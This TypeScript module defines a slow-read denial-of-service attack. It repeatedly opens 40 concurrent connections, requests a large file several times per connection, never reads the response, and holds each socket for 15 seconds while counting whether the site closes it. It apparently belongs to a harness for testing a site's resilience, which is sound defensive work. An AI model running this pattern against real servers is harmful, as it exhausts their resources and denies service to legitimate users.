import { type Attack, files, head, held, open, repeat } from './attack.ts';

const HOLD_MS = 15_000;
/** More than the kernel buffers of a connection take: something has to stay with the server. */
const PIPELINED = 8;

/** Asks for the largest file several times over on one connection, and reads nothing of it. */
export const unreadDownloads: Attack = {
  name: 'unread downloads',
  async run(target, signal) {
    const deeds = { done: 0, closedByTheSite: 0 };
    await repeat({ atOnce: 40, pauseMs: 200 }, signal, async (nth) => {
      const socket = await open(target);
      socket.pause();
      socket.write(head('GET', files.brochure).repeat(nth % 2 ? PIPELINED : 1));
      deeds.done += 1;
      if ((await held(socket, HOLD_MS, signal)) === 'closed') deeds.closedByTheSite += 1;
    });
    return deeds;
  },
};
